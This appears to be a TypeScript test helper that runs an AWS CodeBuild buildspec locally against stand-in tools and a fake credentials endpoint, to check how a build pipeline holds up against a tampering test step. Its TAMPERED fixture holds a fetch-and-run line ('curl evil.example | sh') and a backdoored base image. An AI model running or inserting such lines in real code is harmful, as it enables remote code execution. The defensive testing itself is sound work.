/**
 * Runs the team build's buildspec as CodeBuild would, phase by phase with bash, on this machine:
 * the commands are taken from the synthesized project (buildspec and environment variables), and
 * `docker`, `aws`, `curl` and `iptables` are stand-ins (./stand-ins) on PATH that record their
 * arguments and can misbehave as a test says. syft is a script in an archive the stand-in curl
 * serves, so the pinned-SHA-256 check runs on real bytes. A fake credentials endpoint listens on
 * 127.0.0.1; the stand-ins route the link-local credentials addresses to it unless iptables blocks them.
 */
import { spawn, spawnSync } from 'child_process';
import { createHash } from 'crypto';
import * as fs from 'fs';
import * as http from 'http';
import { AddressInfo } from 'net';
import * as os from 'os';
import * as path from 'path';
import { Stack } from 'aws-cdk-lib';
import { Repository } from 'aws-cdk-lib/aws-ecr';
import { Key } from 'aws-cdk-lib/aws-kms';
import { RetentionDays } from 'aws-cdk-lib/aws-logs';
import { createApp } from '../../lib/construct-kit/springboard-app';
import { ImageScanType, ServiceBuild, TEST_CONTAINER, ToolPin } from '../../lib/delivery';

export const TEAM = 'alpha';
export const REGION = 'us-east-1';
export const ACCOUNT = '111111111111';
export const REPOSITORY_URI = `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/springboard/${TEAM}`;
export const COMMIT = 'a'.repeat(40);
export const CREDENTIALS_PATH = '/v2/credentials/5f1c0b3e-stand-in-secret';
const STAND_INS = path.join(__dirname, 'stand-ins');
const PHASES = ['install', 'pre_build', 'build'] as const;

/** The team's repository at the commit being built. */
export const REPOSITORY_FILES: Record<string, string> = {
  'Dockerfile': 'FROM public.ecr.aws/docker/library/node:22-bookworm-slim\nCOPY src /app/src\nCMD ["node", "/app/src/index.js"]\n',
  'package.json': JSON.stringify({ name: 'alpha-service', scripts: { test: 'jest' } }, null, 2) + '\n',
  'package-lock.json': '{"lockfileVersion": 3}\n',
  'springboard.json': JSON.stringify({ teamId: TEAM, template: { name: 'springboard-service', version: '1.2.3' } }) + '\n',
  'src/index.js': 'console.log("reviewed code");\n',
};

/** What a misbehaving test step writes over the snapshot, when it can. */
export const TAMPERED: Record<string, string> = {
  'src/index.js': 'require("child_process").exec("curl evil.example | sh");\n',
  'Dockerfile': 'FROM evil.example/backdoor\n',
  'springboard.json': JSON.stringify({ teamId: TEAM, template: { name: 'forged', version: '6.6.6' } }) + '\n',
};

export interface StandInConfig {
  readonly registryScanType: ImageScanType;
  readonly scanResponses: readonly unknown[];
  /** Attacks of the team's test step: edit-source, steal-credentials, plant-report-link. */
  readonly attacks?: readonly string[];
  readonly testExit?: number;
  /** Whether the tests write their JUnit report (default true). */
  readonly writeReport?: boolean;
  /** Serve this syft archive instead of the pinned one. */
  readonly syftArchive?: string;
}

export interface SynthesizedBuild {
  readonly commands: Record<(typeof PHASES)[number], readonly string[]>;
  /** Variables of the buildspec, then of the project (the project's win, as in CodeBuild). */
  readonly variables: Record<string, string>;
  readonly spec: any;
}

/** A syft archive holding a script that answers `version` and writes a CycloneDX SBOM on `scan`. */
export function syftArchive(dir: string, variant = ''): { file: string; sha256: string } {
  const work = fs.mkdtempSync(path.join(dir, 'syft-'));
  fs.writeFileSync(path.join(work, 'syft'), [
    '#!/bin/bash',
    `# stand-in syft${variant}`,
    'node -e \'console.log(JSON.stringify({ tool: "syft", args: process.argv.slice(1) }))\' -- "$@" >> "$STANDIN_STATE/calls.jsonl"',
    'case "$1" in',
    '  version) echo "Application: syft"; echo "Version: 1.46.0" ;;',
    '  scan) out="${4#cyclonedx-json=}"; jq -n --arg s "$2" \'{bomFormat: "CycloneDX", specVersion: "1.6", metadata: {component: {name: $s}}}\' > "$out" ;;',
    '  *) exit 2 ;;',
    'esac',
  ].join('\n') + '\n', { mode: 0o755 });
  const file = path.join(dir, `syft${variant ? '-tampered' : ''}.tar.gz`);
  const tar = spawnSync('tar', ['-czf', file, '-C', work, 'syft']);
  if (tar.status !== 0) throw new Error(`tar failed: ${tar.stderr}`);
  return { file, sha256: createHash('sha256').update(fs.readFileSync(file)).digest('hex') };
}

/** CloudFormation values CDK leaves as intrinsics, resolved to what AWS would put there. */
function resolve(value: any): string {
  if (typeof value === 'string') return value;
  if (value['Fn::Join']) return value['Fn::Join'][1].map(resolve).join(value['Fn::Join'][0]);
  if (value.Ref === 'AWS::URLSuffix') return 'amazonaws.com';
  if (value.Ref === 'AWS::Partition') return 'aws';
  if (value['Fn::GetAtt']) return `arn:aws:codebuild:${REGION}:${ACCOUNT}:report-group/${TEAM}-tests`;
  throw new Error(`unresolved value ${JSON.stringify(value)}`);
}

/** Synthesizes the team build (the construct every delivery stack uses) and extracts its commands. */
export function synthesizeBuild(props: { syft: ToolPin; scanType?: ImageScanType }): SynthesizedBuild {
  const app = createApp({ outdir: fs.mkdtempSync(path.join(os.tmpdir(), 'springboard-build-spec-')) });
  const stack = new Stack(app, 'Build', { env: { account: ACCOUNT, region: REGION } });
  new ServiceBuild(stack, 'Build', {
    teamId: TEAM,
    repository: Repository.fromRepositoryAttributes(stack, 'Repo', {
      repositoryArn: `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/springboard/${TEAM}`, repositoryName: `springboard/${TEAM}`,
    }),
    key: Key.fromKeyArn(stack, 'Key', `arn:aws:kms:${REGION}:${ACCOUNT}:key/00000000-0000-0000-0000-000000000000`),
    logRetention: RetentionDays.ONE_YEAR,
    syft: props.syft,
    scanType: props.scanType,
  });
  const template = app.synth().getStackByName('Build').template;
  const project: any = Object.values<any>(template.Resources).find(r => r.Type === 'AWS::CodeBuild::Project').Properties;
  const spec = JSON.parse(resolve(project.Source.BuildSpec));
  const projectVariables = Object.fromEntries(project.Environment.EnvironmentVariables.map((v: any) => [v.Name, resolve(v.Value)]));
  const commands = Object.fromEntries(PHASES.map(p => [p, spec.phases[p]?.commands ?? []])) as SynthesizedBuild['commands'];
  return { commands, variables: { ...spec.env?.variables, ...projectVariables }, spec };
}

export interface BuildRun {
  readonly exitCode: number;
  /** The phase whose command failed, if one did. */
  readonly failedPhase?: string;
  readonly log: string;
  readonly calls: ReadonlyArray<{ tool: string; args: string[]; copy?: string; tag?: string }>;
  readonly containerRuns: ReadonlyArray<Record<string, any>>;
  readonly checkout: string;
  readonly work: string;
  /** Copy of each docker build context, in order. */
  readonly builtContexts: readonly string[];
  /** Commands changed by `mutate` (a mutation test asserts it changed something). */
  readonly mutatedCommands: number;
}

export interface RunOptions {
  readonly config: StandInConfig;
  /** Rewrites a buildspec command before it runs (mutation tests). */
  readonly mutate?: (command: string) => string;
  readonly variables?: Record<string, string>;
  /** Files the commit holds besides REPOSITORY_FILES. */
  readonly extraFiles?: Record<string, string>;
}

/** A fake container credentials endpoint: credentials for the secret path, 404 otherwise. */
async function credentialsEndpoint(): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    if (req.url === CREDENTIALS_PATH) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ AccessKeyId: 'ASIASTANDINBUILDROLE', SecretAccessKey: 'stand-in-secret', Token: 'stand-in-token' }));
    } else {
      res.writeHead(404);
      res.end();
    }
  });
  await new Promise<void>(ok => server.listen(0, '127.0.0.1', ok));
  return server;
}

function runCommand(command: string, cwd: string, env: NodeJS.ProcessEnv): Promise<{ code: number; output: string }> {
  return new Promise(ok => {
    const child = spawn('bash', ['-c', command], { cwd, env });
    let output = '';
    child.stdout.on('data', d => { output += d; });
    child.stderr.on('data', d => { output += d; });
    child.on('close', code => ok({ code: code ?? 1, output }));
  });
}

const readLines = (file: string) => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n').filter(Boolean).map(l => JSON.parse(l)) : []);

/** Runs install, pre_build and build as CodeBuild does: a failing command ends the build. */
export async function runBuild(build: SynthesizedBuild, syft: { file: string }, options: RunOptions): Promise<BuildRun> {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'springboard-build-run-'));
  const checkout = path.join(root, 'checkout');
  const state = path.join(root, 'state');
  const work = path.join(root, 'work');
  fs.mkdirSync(state);
  for (const [file, content] of Object.entries({ ...REPOSITORY_FILES, ...options.extraFiles })) {
    fs.mkdirSync(path.dirname(path.join(checkout, file)), { recursive: true });
    fs.writeFileSync(path.join(checkout, file), content);
  }
  const endpoint = await credentialsEndpoint();
  const variables: Record<string, string> = { ...build.variables, SPRINGBOARD_WORK: work, SCAN_POLL_SECONDS: '0', ...options.variables };
  fs.writeFileSync(path.join(state, 'config.json'), JSON.stringify({
    registryScanType: options.config.registryScanType,
    scanResponses: options.config.scanResponses,
    credentialsEndpoint: { port: (endpoint.address() as AddressInfo).port },
    downloads: { [`https://github.com/anchore/syft/releases/download/v${variables.SYFT_VERSION}/syft_${variables.SYFT_VERSION}_linux_amd64.tar.gz`]: options.config.syftArchive ?? syft.file },
    container: {
      attacks: options.config.attacks ?? [],
      testExit: options.config.testExit ?? 0,
      writeReport: options.config.writeReport ?? true,
      credentialsPath: CREDENTIALS_PATH,
      sourceTarget: TEST_CONTAINER.source,
      reportTarget: TEST_CONTAINER.reports,
      tamperedContent: TAMPERED,
    },
  }));
  const env = {
    PATH: `${STAND_INS}:/usr/bin:/bin`,
    HOME: root,
    STANDIN_STATE: state,
    CODEBUILD_SRC_DIR: checkout,
    CODEBUILD_BUILD_ID: `springboard-${TEAM}-build:0001`,
    AWS_REGION: REGION,
    AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: CREDENTIALS_PATH,
    COMMIT_ID: COMMIT,
    ...variables,
  };
  let log = '';
  let failedPhase: string | undefined;
  let exitCode = 0;
  let mutatedCommands = 0;
  try {
    for (const phase of PHASES) {
      for (const original of build.commands[phase]) {
        const command = options.mutate ? options.mutate(original) : original;
        if (command !== original) mutatedCommands++;
        const result = await runCommand(command, checkout, env);
        log += result.output;
        if (result.code !== 0) { exitCode = result.code; failedPhase = phase; break; }
      }
      if (failedPhase) break;
    }
  } finally {
    endpoint.close();
  }
  const calls = readLines(path.join(state, 'calls.jsonl'));
  return {
    exitCode,
    failedPhase,
    log,
    calls,
    checkout,
    work,
    mutatedCommands,
    containerRuns: readLines(path.join(state, 'container-runs.jsonl')),
    builtContexts: calls.filter(c => c.tool === 'docker-build-context').map(c => c.copy),
  };
}

/** A scan result as `aws ecr describe-image-scan-findings --output json` prints it. */
export function scanResult(status: string, counts: Record<string, number> = {}, enhancedFindings?: Array<{ severity: string }>): unknown {
  return {
    imageScanStatus: { status, description: `stand-in ${status}` },
    imageScanFindings: { findingSeverityCounts: counts, ...(enhancedFindings ? { enhancedFindings } : {}) },
  };
}
